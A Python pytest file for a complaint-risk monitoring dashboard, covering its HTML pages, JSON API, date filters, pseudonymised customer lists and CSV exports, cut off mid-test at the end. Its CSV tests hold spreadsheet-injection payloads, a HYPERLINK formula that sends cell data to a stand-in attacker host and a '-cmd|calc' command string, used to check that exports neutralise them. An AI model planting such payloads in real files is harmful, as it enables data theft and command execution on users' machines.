"""The monitoring dashboard (``serve.py`` pages and JSON over the risk history).

One fixture store (tests/radar/dashboard/fixtures.py: three brands, six weekly windows, a model
change, an alert) is built once per backend, a SQLite file and a PostgreSQL database; every
test reads it through the real app, without a model. HTML is checked through its tags and
attributes, not by eye.
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import html
import io
import json
import re
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest

pytest.importorskip("fastapi")
pytest.importorskip("jinja2")
from fastapi.testclient import TestClient  # noqa: E402

import serve  # noqa: E402
from nlp import spreadsheet  # noqa: E402
from nlp.report import Pseudonymizer  # noqa: E402
from nlp.risk import DRIVER_KEYS, SCORE_VERSION  # noqa: E402
from radar import dashboard  # noqa: E402
from radar.dashboard import export, views  # noqa: E402
from radar.dashboard.daterange import DateRange  # noqa: E402
from radar.store import StoreTarget, is_database_url, open_store  # noqa: E402
from radar.store.history import (  # noqa: E402
    AlertDelivery,
    HistoryPoint,
    StoredAlert,
    StoredPost,
    WindowCustomer,
    alert_payloads,
    brand_history,
    has_theme,
    latest_points,
    window_customers,
)
from serve import ServeSettings, create_app  # noqa: E402
from tests.conftest import copy_sqlite  # noqa: E402
from tests.radar.dashboard.fixtures import (  # noqa: E402
    ANCHOR,
    MODEL_AFTER,
    MODEL_BEFORE,
    WEEK,
    WEEKS,
    build_fixture_store,
)

API_KEY = "dashboard-key-0123456789"
PSEUDONYM_KEY = "pseudonym-key-for-tests"
POINT_FIELDS = {f.name for f in dataclasses.fields(HistoryPoint)}


class Tags(HTMLParser):
    """Every start tag with its attributes, and the text of each <script> element."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: dict[str, str] = {}
        self._script_id: str | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag == "script" and attributes.get("id"):
            self._script_id = attributes["id"]

    def handle_endtag(self, tag):
        if tag == "script":
            self._script_id = None

    def handle_data(self, data):
        if self._script_id:
            self.scripts[self._script_id] = self.scripts.get(self._script_id, "") + data

    def having(self, tag: str, cls: str | None = None) -> list[dict[str, str | None]]:
        return [a for t, a in self.tags
                if t == tag and (cls is None or cls in (a.get("class") or "").split())]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def fixture(request, tmp_path_factory):
    """The fixture history in a SQLite file, or in a fresh PostgreSQL database."""
    if request.param == "sqlite":
        return build_fixture_store(tmp_path_factory.mktemp("dashboard") / "radar.db")
    return build_fixture_store(request.getfixturevalue("postgres_server").new_database())


def private_names(target: StoreTarget) -> list[str]:
    """Where the server keeps its store, which no page or answer may show: the file's path,
    folder and name, or the database's URL, name and address."""
    if is_database_url(target):
        from sqlalchemy.engine import make_url

        url = make_url(target)
        return [str(target), url.render_as_string(hide_password=True), url.database,
                f"{url.host}:{url.port}"]
    path = Path(target)
    return [str(path), str(path.parent), path.name]


def store_copy(fixture, tmp_path: Path, request) -> StoreTarget:
    """A private copy of the fixture store, on its backend, for a test that changes it: the
    SQLite file backed up, or every table copied row by row into a fresh PostgreSQL
    database through the store's own connection."""
    if not is_database_url(fixture.db_path):
        copy = tmp_path / "radar.db"
        copy_sqlite(fixture.db_path, copy)
        return copy
    copy = request.getfixturevalue("postgres_server").new_database()
    with open_store(fixture.db_path) as source, open_store(copy) as target:
        tables = sorted(source.db.table_names() - {"schema_version"})
        assert tables and tables == sorted(target.db.table_names() - {"schema_version"})
        with target.transaction():
            for table in tables:
                result = source.db.execute(f"SELECT * FROM {table}")
                columns = list(result.keys())
                rows = [tuple(row) for row in result.fetchall()]
                target.db.executemany(
                    f"INSERT INTO {table} ({', '.join(columns)}) "
                    f"VALUES ({', '.join('?' * len(columns))})", rows)
    return copy


def _client(settings: ServeSettings) -> TestClient:
    with pytest.MonkeyPatch.context() as mp:  # the app reads the key when it is built
        mp.setenv("RADAR_PSEUDONYM_KEY", PSEUDONYM_KEY)
        return TestClient(create_app(settings))


@pytest.fixture(scope="module")
def client(fixture, tmp_path_factory):
    """The app over the fixture store, with no model (the dashboard must not need one)."""
    settings = ServeSettings(model_dir=tmp_path_factory.mktemp("no-model"),
                             db_path=fixture.db_path)
    with _client(settings) as c:
        yield c


@pytest.fixture(scope="module")
def keyed_client(fixture, tmp_path_factory):
    settings = ServeSettings(model_dir=tmp_path_factory.mktemp("no-model"),
                             db_path=fixture.db_path, api_key=API_KEY)
    with _client(settings) as c:
        yield c


@pytest.fixture(scope="module")
def store(fixture):
    opened = open_store(fixture.db_path)
    yield opened
    opened.close()


def latest(store, brand: str) -> HistoryPoint:
    return next(p for p in latest_points(store, SCORE_VERSION) if p.brand == brand)


def basic(user: str, password: str) -> dict[str, str]:
    token = base64.b64encode(f"{user}:{password}".encode()).decode()
    return {"Authorization": f"Basic {token}"}


def assert_only_local_assets(html: str) -> None:
    tags = Tags(html)
    sources = [a.get("src") for a in tags.having("script") if a.get("src")]
    sources += [a.get("href") for a in tags.having("link")]
    sources += [a.get("src") for a in tags.having("img")]
    for source in sources:
        assert source and source.startswith("/") and not source.startswith("//"), source
    assert "cdn" not in html.lower()


# --- the overview --------------------------------------------------------------------------------


def test_overview_lists_brands_by_at_risk_share_with_their_numbers(client, fixture, store):
    response = client.get("/")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    tags = Tags(response.text)
    order = [row["data-brand"] for row in tags.having("tr", "brand-row")]
    assert order == list(fixture.brands_by_share) == ["AcmeTelco", "Bluebird Air", "Cornershop"]
    shares = [latest(store, b).at_risk_share for b in order]
    assert shares == sorted(shares, reverse=True)
    assert [row["data-trend"] for row in tags.having("tr", "brand-row")] == \
        [fixture.trends[b] for b in order] == ["up", "flat", "new"]

    rows = response.text.split('class="brand-row"')[1:]
    for brand, row in zip(order, rows, strict=True):
        point = latest(store, brand)
        assert views.brand_href(brand) in row  # links to its page
        assert views.percent(point.at_risk_share) in row
        assert f"{views.percent(point.ci_low)} – {views.percent(point.ci_high)}" in row
        assert f">{point.customers}<" in row
        assert point.window_start.strftime("%Y-%m-%d") in row
        assert f'<time datetime="{point.computed_at.isoformat()}">' in row
        assert point.model_version in row and point.score_version in row
        top = sorted(point.drivers, key=lambda k: -point.drivers[k])[:3]
        chips = re.findall(r'<span class="chip"[^>]*>([^<]+)<b>([^<]+)</b>', row)
        assert [c[0].strip() for c in chips] == [views.DRIVER_LABELS[k] for k in top]
        assert [c[1] for c in chips] == [views.percent(point.drivers[k], 0) for k in top]
    arrows = [re.search(r'<span class="arrow">([^<]+)</span>', row).group(1) for row in rows]
    assert arrows == ["▲", "≈", "new"]
    assert "/brands/Bluebird%20Air" in response.text


def test_overview_names_the_last_update(client, store):
    last = max(p.computed_at for p in latest_points(store, SCORE_VERSION))
    assert f"Last update {views.format_utc(last)}" in client.get("/").text


def test_every_column_fact_and_chip_says_what_it_counts(client):
    """The headline figure is named for what it is, and every header, fact and chip has a
    one-line tooltip; a title left off a new column fails here."""
    overview = client.get("/").text
    assert "Expected share of customers at risk, by brand" in overview
    tags = Tags(overview)
    headers = [a for a in tags.having("th") if a.get("colspan") is None]
    assert len(headers) == 9 and all((a.get("title") or "").strip() for a in headers)
    assert all(a.get("title") for a in tags.having("span", "chip"))
    share_header = next(a for a in headers if "share of customers at risk" in a["title"])
    assert "mean of each customer's risk" in share_header["title"]

    page = client.get("/brands/AcmeTelco").text
    assert "expected share of customers at risk" in page
    tags = Tags(page)
    assert all((a.get("title") or "").strip() for a in tags.having("dt"))
    assert all(a.get("title") for a in tags.having("span", "chip"))
    assert all(a.get("title") for a in tags.having("span", "risk"))
    assert client.get("/v1/brands").json()["measure"] == "expected share of customers at risk"


# --- the brand page ------------------------------------------------------------------------------


def test_brand_page_has_both_charts_with_band_and_model_change(client, fixture, store):
    response = client.get("/brands/AcmeTelco")
    assert response.status_code == 200
    tags = Tags(response.text)
    assert {"risk-chart", "driver-chart"} <= {a.get("id") for a in tags.having("div", "chart")}
    risk = json.loads(tags.scripts["risk-chart-data"])
    history = brand_history(store, "AcmeTelco", SCORE_VERSION)
    assert len(history) == WEEKS
    low, high, share = risk["data"][:3]
    assert high["fill"] == "tonexty" and "fill" not in low  # the band fills between bounds
    assert low["y"] == [p.ci_low for p in history] and high["y"] == [p.ci_high for p in history]
    assert share["y"] == [p.at_risk_share for p in history]
    changed = [t for t in risk["data"] if t["name"] == "model changed"]
    assert len(changed) == 1 and changed[0]["x"] == [share["x"][3]]
    assert changed[0]["text"] == [f"{MODEL_BEFORE} → {MODEL_AFTER}"]
    assert [a["text"] for a in risk["layout"]["annotations"]] == [f"model {MODEL_AFTER}"]

    # Post volume as bars on the right axis; the share on the left one, drawn above them.
    [bars] = [t for t in risk["data"] if t["type"] == "bar"]
    assert bars["x"] == share["x"] and bars["y"] == [p.posts for p in history]
    assert [c[0] for c in bars["customdata"]] == [p.customers for p in history]
    assert "yaxis" not in bars and risk["layout"]["yaxis"]["side"] == "right"
    assert {t.get("yaxis") for t in risk["data"] if t["type"] != "bar"} == {"y2"}
    assert risk["layout"]["yaxis2"]["overlaying"] == "y"
    assert risk["layout"]["yaxis2"]["tickformat"] == ".0%"

    drivers = json.loads(tags.scripts["driver-chart-data"])
    assert drivers["data"] and all(t["stackgroup"] == "drivers" for t in drivers["data"])
    for i, point in enumerate(history):  # the stack adds up to the at-risk share
        assert sum(t["y"][i] for t in drivers["data"]) == pytest.approx(point.at_risk_share)


def test_brand_page_lists_pseudonymised_customers_with_their_posts(client, fixture, store):
    response = client.get("/brands/AcmeTelco")
    html = response.text
    rows = window_customers(store, latest(store, "AcmeTelco"), min_risk=0.5, limit=50)
    assert 0 < len(rows) < 50
    tags = Tags(html)
    customers = tags.having("li", "customer")
    assert len(customers) == len(rows)
    name = Pseudonymizer(PSEUDONYM_KEY)
    shown = re.findall(r'<span class="pseudonym">([^<]+)</span>', html)
    assert shown == [name(r.customer) for r in rows]
    for author in fixture.authors:  # no raw author id anywhere, with or without "@"
        assert author not in html and author.casefold() not in html.casefold()
    posts = [p for r in rows for p in r.posts]
    assert len(tags.having("li", "post")) == len(posts)
    links = [a["href"] for a in tags.having("a", "raw")]
    assert links == [p.url for p in posts if p.url]
    assert len(links) < len(posts)  # review-dump posts have no URL and get no link
    for link in tags.having("a", "raw"):
        assert "noopener" in link["rel"]
    assert "@acmetelco" not in html.casefold() and "@user" in html  # handles masked
    assert "pics.example.net" not in html  # links inside post texts masked
    assert re.search(r"<time datetime=\"2024-02-\d\dT", html)


def test_brand_page_shows_recent_alerts(client, store):
    html = client.get("/brands/AcmeTelco").text
    section = html[html.index('id="alerts"'):html.index('id="customers"')]
    recorded = alert_payloads(store, "AcmeTelco")
    assert {a.kind for a in recorded} >= {"risk_rise"}
    assert section.count('<li class="alert">') == len(recorded)
    for alert in recorded:
        assert alert.payload["headline"] in section.replace("&#39;", "'")
        assert alert.payload["change_text"] in section
        for example in alert.payload["examples"]:
            assert example["text"].replace("'", "&#39;") in section
    assert "email: sent after 3 attempts" in section and "webhook: sent" in section
    assert 'id="no-alerts"' not in section


def test_theme_filter_keeps_only_customers_with_that_theme(client, fixture, store):
    theme = fixture.filter_theme
    point = latest(store, "AcmeTelco")
    everyone = window_customers(store, point, min_risk=0.5)
    expected = [r for r in everyone if has_theme(r.drivers, theme)]
    assert 0 < len(expected) < len(everyone)
    response = client.get(f"/brands/AcmeTelco?theme={theme}")
    assert response.status_code == 200
    tags = Tags(response.text)
    kept = [c["data-drivers"].split() for c in tags.having("li", "customer")]
    assert len(kept) == len(expected) and all(theme in drivers for drivers in kept)
    selected = [o["value"] for o in tags.having("option") if "selected" in o]
    assert selected == [theme]
    form = next(f for f in tags.having("form") if f.get("id") == "theme-form")
    assert form["method"] == "get" and form["action"] == "/brands/AcmeTelco"
    assert {o["value"] for o in tags.having("option")} == {"", *DRIVER_KEYS}
    # An empty choice is "all themes".
    assert len(Tags(client.get("/brands/AcmeTelco?theme=").text).having("li", "customer")) \
        == len(everyone)


def test_brand_names_match_ignoring_case_and_survive_url_encoding(client):
    response = client.get("/brands/bluebird%20air")
    assert response.status_code == 200
    assert "<h1>Bluebird Air</h1>" in response.text


def test_unknown_brand_is_a_404_page_listing_the_brands(client, fixture):
    response = client.get("/brands/Nonesuch")
    assert response.status_code == 404
    assert response.headers["content-type"].startswith("text/html")
    assert "no brand &#39;Nonesuch&#39; in the risk history; brands: AcmeTelco, Bluebird Air, " \
           "Cornershop" in response.text
    hrefs = [a["href"] for a in Tags(response.text).having("a")]
    assert all(views.brand_href(b) in hrefs for b in fixture.brands_by_share)


def test_unknown_theme_is_a_400_page_listing_the_valid_themes(client):
    response = client.get("/brands/AcmeTelco?theme=weather")
    assert response.status_code == 400
    assert "unknown theme &#39;weather&#39;; valid themes: " + ", ".join(DRIVER_KEYS) \
        in response.text
    hrefs = [a["href"] for a in Tags(response.text).having("a")]
    assert all(f"/brands/AcmeTelco?theme={k}" in hrefs for k in DRIVER_KEYS)


# --- the date range ------------------------------------------------------------------------------

RANGE = "from=2024-01-08&to=2024-01-21"  # the fixture's second and third weeks


def window_starts(weeks) -> list[str]:
    return [(ANCHOR + w * WEEK).strftime("%Y-%m-%d %H:%M") for w in weeks]


@pytest.mark.parametrize(("query", "weeks"), [
    (RANGE, [1, 2]),
    ("from=2024-02-01", [4, 5]),  # the window of Jan 29 to Feb 5 overlaps Feb 1
    ("to=2024-01-01", [0]),
    ("from=2024-01-10&to=2024-01-10", [1]),  # one day: the window holding it
    ("from=&to=", list(range(WEEKS))),  # empty form fields: the whole history
])
def test_date_range_keeps_the_windows_that_overlap_it(client, store, query, weeks):
    response = client.get(f"/brands/AcmeTelco?{query}")
    assert response.status_code == 200
    tags = Tags(response.text)
    risk = json.loads(tags.scripts["risk-chart-data"])
    bars = next(t for t in risk["data"] if t["type"] == "bar")
    drivers = json.loads(tags.scripts["driver-chart-data"])
    assert risk["data"][2]["x"] == bars["x"] == window_starts(weeks)
    assert all(t["x"] == window_starts(weeks) for t in drivers["data"])
    # The header and the customers are those of the range's latest window.
    shown = brand_history(store, "AcmeTelco", SCORE_VERSION)[weeks[-1]]
    assert f"{views.format_utc(shown.window_start)} – {views.format_utc(shown.window_end)}" \
        in response.text
    rows = window_customers(store, shown, min_risk=0.5)
    assert rows and re.findall(r'<span class="pseudonym">([^<]+)</span>', response.text) == \
        [Pseudonymizer(PSEUDONYM_KEY)(r.customer) for r in rows]


def test_overview_shows_each_brands_latest_window_in_the_range(client, store):
    html = client.get(f"/?{RANGE}").text
    week3 = {b: brand_history(store, b, SCORE_VERSION)[2] for b in ("AcmeTelco", "Bluebird Air")}
    order = sorted(week3, key=lambda b: -week3[b].at_risk_share)
    # Cornershop's only window is the last week: it has none in the range.
    assert [r["data-brand"] for r in Tags(html).having("tr", "brand-row")] == order
    for brand, row in zip(order, html.split('class="brand-row"')[1:], strict=True):
        assert views.percent(week3[brand].at_risk_share) in row
        assert "2024-01-15 –" in row and "2024-02-" not in row
    assert "latest window overlapping the days from 2024-01-08 to 2024-01-21" in html
    last = max(p.computed_at for p in week3.values())
    assert f"Last update {views.format_utc(last)}" in html


def test_a_range_without_windows_says_so(client):
    page = client.get("/?from=2030-01-01")
    assert page.status_code == 200 and not Tags(page.text).having("tr", "brand-row")
    assert ("no brand has a risk window overlapping the days from 2030-01-01 on; the history "
            "runs from 2024-01-01 to 2024-02-12") in page.text
    assert {a["name"]: a["value"] for a in Tags(page.text).having("input")} == \
        {"from": "2030-01-01", "to": ""}  # the form to pick other days is still there
    brand = client.get("/brands/AcmeTelco?to=2023-12-31")
    assert brand.status_code == 404
    assert "AcmeTelco has no risk window overlapping the days up to 2023-12-31" in brand.text
    hrefs = [a["href"] for a in Tags(brand.text).having("a")]
    assert "/brands/AcmeTelco" in hrefs and "/?to=2023-12-31" in hrefs


def test_the_range_stays_in_the_links_between_pages(client, fixture):
    overview = Tags(client.get(f"/?{RANGE}").text)
    hrefs = [a["href"] for a in overview.having("a")]
    assert "/brands/AcmeTelco?" + RANGE in hrefs and "/brands/Bluebird%20Air?" + RANGE in hrefs
    assert f"/overview.csv?{RANGE}" in hrefs and "/" in hrefs  # "/": the whole history
    assert {a["name"]: a["value"] for a in overview.having("input")} == \
        {"from": "2024-01-08", "to": "2024-01-21"}

    theme = fixture.filter_theme
    page = Tags(client.get(f"/brands/AcmeTelco?theme={theme}&{RANGE}").text)
    hrefs = [a["href"] for a in page.having("a")]
    assert f"/?{RANGE}" in hrefs  # back to the overview over the same days
    assert f"/brands/AcmeTelco/customers.csv?theme={theme}&{RANGE}" in hrefs
    assert f"/brands/AcmeTelco?theme={theme}" in hrefs  # the whole history, same theme
    # Each form carries the other's choice: the range form the theme, the theme form the days.
    hidden = [(a["name"], a["value"]) for a in page.having("input") if a["type"] == "hidden"]
    assert hidden == [("theme", theme), ("from", "2024-01-08"), ("to", "2024-01-21")]
    assert {f["id"]: f["action"] for f in page.having("form")} == \
        {"range-form": "/brands/AcmeTelco", "theme-form": "/brands/AcmeTelco"}

    unknown = Tags(client.get(f"/brands/AcmeTelco?theme=weather&{RANGE}").text)
    assert f"/brands/AcmeTelco?theme=billing&{RANGE}" in [a["href"] for a in unknown.having("a")]
    plain = Tags(client.get("/").text)  # no range, no query strings
    assert not [a["href"] for a in plain.having("a") if "?" in a["href"]]
    assert not [a for a in plain.having("input") if a["type"] == "hidden"]


@pytest.mark.parametrize(("path", "message"), [
    ("/?from=2024-13-01",
     "from=&#39;2024-13-01&#39; is not a date; expected YYYY-MM-DD, e.g. 2024-01-31"),
    ("/?to=yesterday", "to=&#39;yesterday&#39; is not a date"),
    ("/brands/AcmeTelco?from=2024-02-01&to=2024-01-01",
     "from=2024-02-01 is after to=2024-01-01; pick a from on or before the to date"),
    ("/overview.csv?from=20240108", "from=&#39;20240108&#39; is not a date"),
    ("/brands/AcmeTelco/customers.csv?to=2024-1-8", "to=&#39;2024-1-8&#39; is not a date"),
])
def test_a_bad_date_is_a_400_page_saying_what_is_expected(client, path, message):
    response = client.get(path)
    assert response.status_code == 400
    assert response.headers["content-type"].startswith("text/html")
    assert "<h1>Invalid date range</h1>" in response.text and message in response.text
    assert_only_local_assets(response.text)


def test_a_bad_date_is_checked_after_sign_in(keyed_client):
    assert keyed_client.get("/?from=nope").status_code == 401
    assert keyed_client.get("/?from=nope", headers={"X-API-Key": API_KEY}).status_code == 400


def test_the_json_has_no_date_range(client, fixture):
    body = client.get("/v1/brands?from=2030-01-01&to=nonsense").json()
    assert [b["brand"] for b in body["brands"]] == list(fixture.brands_by_share)


def test_date_range_parsing_and_overlap():
    assert DateRange.parse(None, " ") == DateRange() and not DateRange().is_set
    days = DateRange.parse("2024-01-08", "2024-01-21")
    assert days.params() == {"from": "2024-01-08", "to": "2024-01-21"}

    def week(day: int) -> tuple[datetime, datetime]:
        return datetime(2024, 1, day, tzinfo=UTC), datetime(2024, 1, day + 7, tzinfo=UTC)

    assert not days.covers(*week(1))  # ends at midnight of the first day: no overlap
    assert days.covers(*week(2)) and days.covers(*week(21)) and not days.covers(*week(22))
    with pytest.raises(ValueError, match="to='2024-02-30' is not a date"):
        DateRange.parse(None, "2024-02-30")
    assert DateRange.parse(None, "9999-12-31").covers(*week(1))  # no overflow at the end


# --- CSV exports ---------------------------------------------------------------------------------


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    header, *rows = csv.reader(io.StringIO(response.text, newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_overview_csv_is_the_overview_table(client, fixture, store):
    response = client.get("/overview.csv")
    assert response.headers["content-disposition"] == \
        'attachment; filename="complaint-radar_overview.csv"'
    assert response.text.split("\r\n")[0] == ",".join(export.OVERVIEW_COLUMNS)
    records = read_csv(response)
    assert [r["brand"] for r in records] == list(fixture.brands_by_share)
    for record in records:
        point = latest(store, record["brand"])
        for name in ("at_risk_share", "ci_low", "ci_high"):
            assert float(record[name]) == round(getattr(point, name), 4)
        assert record["trend"] == fixture.trends[point.brand]
        assert (int(record["customers"]), int(record["posts"])) == (point.customers, point.posts)
        ranked = point.customers >= views.MIN_CUSTOMERS_RANKED
        assert (record["ranked"], record["partial"]) == \
            ("yes" if ranked else "no", "yes" if point.partial else "no")
        assert (record["window_start_utc"], record["window_end_utc"]) == \
            (point.window_start.strftime("%Y-%m-%d %H:%M"),
             point.window_end.strftime("%Y-%m-%d %H:%M"))
        assert (record["model_version"], record["score_version"]) == \
            (point.model_version, point.score_version)
        top = sorted(point.drivers, key=lambda k: -point.drivers[k])[:3]
        assert [record[f"driver_{i}"] for i in (1, 2, 3)] == [views.DRIVER_LABELS[k] for k in top]
        assert [float(record[f"driver_{i}_share"]) for i in (1, 2, 3)] == \
            [round(point.drivers[k], 4) for k in top]

    ranged = client.get(f"/overview.csv?{RANGE}")
    assert ranged.headers["content-disposition"] == \
        'attachment; filename="complaint-radar_overview_2024-01-08_2024-01-21.csv"'
    page_order = [r["data-brand"] for r in Tags(client.get(f"/?{RANGE}").text).having("tr")
                  if r.get("data-brand")]
    assert [(r["brand"], r["window_start_utc"]) for r in read_csv(ranged)] == \
        [(b, "2024-01-15 00:00") for b in page_order]


def test_customers_csv_is_the_pages_customers_table(client, fixture, store):
    response = client.get("/brands/AcmeTelco/customers.csv")
    assert response.headers["content-disposition"] == \
        'attachment; filename="complaint-radar_AcmeTelco_customers_2024-02-05.csv"'
    records = read_csv(response)
    assert tuple(records[0]) == export.CUSTOMER_COLUMNS
    page = client.get("/brands/AcmeTelco").text
    # The same customers in the same order, one row per post, texts as the page shows them.
    assert list(dict.fromkeys(r["customer"] for r in records)) == \
        re.findall(r'<span class="pseudonym">([^<]+)</span>', page)
    shown_texts = [html.unescape(t) for t in re.findall(r'<p class="text">([^<]*)</p>', page)]
    assert [r["post_text"] for r in records] == [export.spreadsheet_safe(t) for t in shown_texts]
    rows = window_customers(store, latest(store, "AcmeTelco"), min_risk=0.5)
    assert [r["post_url"] for r in records] == [p.url or "" for row in rows for p in row.posts]
    assert {r["window_start_utc"] for r in records} == {"2024-02-05 00:00"}
    text = response.text.casefold()
    for author in fixture.authors:  # pseudonyms only, and handles masked in the texts
        assert author.casefold() not in text
    assert "@acmetelco" not in text and "pics.example.net" not in text
    # Texts that start with a masked handle ("@user ...") are defused like any formula.
    assert any(r["post_text"].startswith("'@user") for r in records)
    assert not [cell for r in records for cell in r.values()
                if cell.startswith(spreadsheet.FORMULA_STARTS)]

    theme = fixture.filter_theme
    filtered = read_csv(client.get(f"/brands/AcmeTelco/customers.csv?theme={theme}"))
    assert list(dict.fromkeys(r["customer"] for r in filtered)) == re.findall(
        r'<span class="pseudonym">([^<]+)</span>',
        client.get(f"/brands/AcmeTelco?theme={theme}").text)
    ranged = read_csv(client.get(f"/brands/AcmeTelco/customers.csv?{RANGE}"))
    assert ranged and {r["window_start_utc"] for r in ranged} == {"2024-01-15 00:00"}
    assert client.get("/brands/Nonesuch/customers.csv").status_code == 404


def test_csv_exports_need_the_key_when_one_is_set(keyed_client):
    for path in ("/overview.csv", "/brands/AcmeTelco/customers.csv"):
        assert keyed_client.get(path).status_code == 401
        assert keyed_client.get(path, headers=basic("me", API_KEY)).status_code == 200


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_are_neutralised(text):
    assert export.spreadsheet_safe(text) == "'" + text
    [_, row] = csv.reader(io.StringIO(export.write_csv(["cell"], [[text]]), newline=""))
    assert row == ["'" + text]


def test_plain_cells_and_numbers_are_left_alone():
    for value in ("plain", "", "'quoted", " =spaced", "a=b", -0.25, 3):
        assert export.spreadsheet_safe(value) == value


def test_customers_csv_defuses_formulas_in_posts_and_brand_names():
    post = StoredPost(source="social", post_id="1", created_at=None, url=None,
                      text='=HYPERLINK("https://evil.example/?"&A1,"click") @mallory')
    row = WindowCustomer(customer="@mallory", risk=0.9, drivers={"churn_intent": 1.0},
                         posts=(post,))
    customers = views.customer_views([row], Pseudonymizer("k"))
    text = export.customers_csv(views.brand_row(_point(brand="-cmd|calc")), customers)
    [record] = csv.DictReader(io.StringIO(text, newline=""))
    assert record["brand"] == "'-cmd|calc"
    assert record["post_text"].startswith("'=HYPERLINK(") and "@mallory" not in text
    assert record["customer"] == Pseudonymizer("k")("@mallory")


# --- alerts: the empty state ---------------------------------------------------------------------


def alerts_section(html: str) -> str:
    return html[html.index('id="alerts"'):html.index('id="customers"')]


def test_brand_pages_say_when_there_are_no_alerts(client, store):
    bluebird = alerts_section(client.get("/brands/Bluebird%20Air").text)
    assert not alert_payloads(store, "Bluebird Air")
    assert 'id="no-alerts"' in bluebird and '<li class="alert">' not in bluebird
    assert "No alerts for Bluebird Air: the monitor has flagged no rise in risk" in bluebird
    # AcmeTelco's alerts are on its last window: a range before it has none, one with it all.
    before = alerts_section(client.get("/brands/AcmeTelco?to=2024-01-21").text)
    assert "No alerts for AcmeTelco over the days up to 2024-01-21" in before
    assert '<li class="alert">' not in before
    with_it = alerts_section(client.get("/brands/AcmeTelco?from=2024-02-01").text)
    assert with_it.count('<li class="alert">') == len(alert_payloads(store, "AcmeTelco"))


def test_a_brand_too_small_to_rank_is_listed_apart_on_the_page_and_in_the_csv(fixture,
                                                                                 tmp_path,
                                                                                 request):
    """Three customers at 90% risk: above every other brand's share, yet listed after them,
    under its own heading, and marked in the CSV; its page says why it is not ranked."""
    from nlp.risk import RiskConfig, RiskPost, score_brands
    from radar.store.history import save_brand_windows

    db_path = store_copy(fixture, tmp_path, request)
    when = ANCHOR + (WEEKS - 1) * WEEK + WEEK / 2
    posts = [RiskPost(post_id=f"tiny:{i}", brand="Tinyco", author_id=f"t{i}", created_at=when,
                      p_complaint=0.95, p_positive=0.01, themes={"billing": 0.9},
                      churn_intent=0.95, text="cancelling") for i in range(3)]
    windows, _ = score_brands(posts, RiskConfig(), window=WEEK, anchor=ANCHOR)
    with open_store(db_path) as store:
        save_brand_windows(store, windows, MODEL_AFTER, ANCHOR + WEEKS * WEEK)
    assert windows[-1].risk.at_risk_share > 0.6 and not windows[-1].ranked
    with _client(ServeSettings(model_dir=tmp_path / "no-model", db_path=db_path)) as c:
        page = c.get("/").text
        rows = Tags(page).having("tr", "brand-row")
        assert [r["data-brand"] for r in rows] == [*fixture.brands_by_share, "Tinyco"]
        assert [r["data-ranked"] for r in rows] == ["true"] * 3 + ["false"]
        assert page.index('id="too-few"') < page.index('data-brand="Tinyco"')
        records = read_csv(c.get("/overview.csv"))
        assert [(r["brand"], r["ranked"]) for r in records] == \
            [*((b, "yes") for b in fixture.brands_by_share), ("Tinyco", "no")]
        assert 'id="too-few"' in c.get("/brands/Tinyco").text


def test_a_store_without_alerts_says_so_on_every_brand_page(fixture, tmp_path, request):
    db_path = store_copy(fixture, tmp_path, request)
    with open_store(db_path) as store, store.transaction():
        store.db.execute("DELETE FROM alert_deliveries")
        store.db.execute("DELETE FROM alerts")
    with open_store(db_path) as store:
        assert not alert_payloads(store, "AcmeTelco")
    settings = ServeSettings(model_dir=tmp_path / "no-model", db_path=db_path)
    with _client(settings) as c:
        for brand in fixture.brands_by_share:
            section = alerts_section(c.get(views.brand_href(brand)).text)
            assert f"No alerts for {brand}:" in section and '<li class="alert">' not in section


# --- JSON ----------------------------------------------------------------------------------------


def test_brands_json_is_the_latest_point_per_brand_with_trend_label(client, fixture, store):
    response = client.get("/v1/brands")
    assert response.status_code == 200
    body = response.json()
    assert body["score_version"] == SCORE_VERSION and body["message"] is None
    assert [b["brand"] for b in body["brands"]] == list(fixture.brands_by_share)
    for record in body["brands"]:
        assert set(record) == POINT_FIELDS | {"trend_label", "ranked"}
        assert record == {**latest(store, record["brand"]).to_dict(),
                          "trend_label": fixture.trends[record["brand"]],
                          "ranked": record["customers"] >= views.MIN_CUSTOMERS_RANKED}


def test_brand_history_json_has_every_point_and_pseudonymised_customers(client, fixture, store):
    response = client.get("/v1/brands/AcmeTelco/history")
    assert response.status_code == 200
    body = response.json()
    history = brand_history(store, "AcmeTelco", SCORE_VERSION)
    assert [p["window_start"] for p in body["points"]] == \
        [p.to_dict()["window_start"] for p in history]
    assert body["points"][-1]["trend_label"] == "up" and body["points"][0]["trend_label"] == "new"
    assert (body["window_start"], body["window_end"]) == \
        (history[-1].to_dict()["window_start"], history[-1].to_dict()["window_end"])
    rows = window_customers(store, history[-1], min_risk=0.5)
    name = Pseudonymizer(PSEUDONYM_KEY)
    assert [c["customer"] for c in body["customers"]] == [name(r.customer) for r in rows]
    assert [c["risk"] for c in body["customers"]] == [r.risk for r in rows]
    text = response.text
    for author in fixture.authors:
        assert author not in text
    assert set(body) == {"brand", "score_version", "points", "window_start", "window_end",
                         "min_risk", "theme", "customers"}
    assert all(set(c) == {"customer", "risk", "drivers", "posts"} for c in body["customers"])
    # The JSON of a customer is their view: the shown drivers, and posts masked but in the
    # stored order with the stored source, time and URL.
    first, row = body["customers"][0], rows[0]
    assert list(first["drivers"]) == [d.key for d in views.main_drivers(row.drivers)]
    assert [(p["source"], p["created_at"], p["url"]) for p in first["posts"]] == [
        (p.source, p.created_at.isoformat().replace("+00:00", "Z"), views.safe_url(p.url))
        for p in row.posts]
    posts = [p for c in body["customers"] for p in c["posts"]]
    assert posts and all(set(p) == {"source", "text", "created_at", "url"} for p in posts)
    assert any(p["url"] is None for p in posts) and any(p["url"] for p in posts)
    assert not any("@acmetelco" in p["text"].casefold() for p in posts)


def test_brand_history_json_filters_and_rejects(client, fixture):
    theme = fixture.filter_theme
